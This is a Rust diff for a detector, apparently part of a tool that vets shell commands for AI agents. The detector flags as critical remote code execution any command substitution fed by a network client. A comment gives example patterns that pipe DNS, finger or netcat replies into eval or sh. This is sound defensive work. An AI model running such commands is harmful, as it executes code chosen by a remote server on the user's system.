@@ -139,6 +139,26 @@ impl<'c> Walker<'c> {
             self.rce_from(url, via, &site.cmd.text);
             return;
         }
+        // `eval $(dig +short TXT x.example)`, `eval $(finger x@host)`,
+        // `sh -c "$(nc host port)"`: commands chosen by a server.
+        let from_network = children.iter().find_map(|c| {
+            self.network_client(c).or_else(|| {
+                c.name()
+                    .map(|n| paths::basename(n.value_or_raw()))
+                    .filter(|n| agentgate_commands::NETWORK_READERS.contains(n))
+                    .map(str::to_owned)
+            })
+        });
+        if let Some(client) = from_network {
+            self.out.effects.untrusted_input = true;
+            self.find(
+                Rce,
+                Critical,
+                format!("runs in {via} commands a network server answers ({client})"),
+                &site.cmd.text,
+            );
+            return;
+        }
         if let Some(payload) = decode_chain(&children) {
             self.find(
                 Obf,
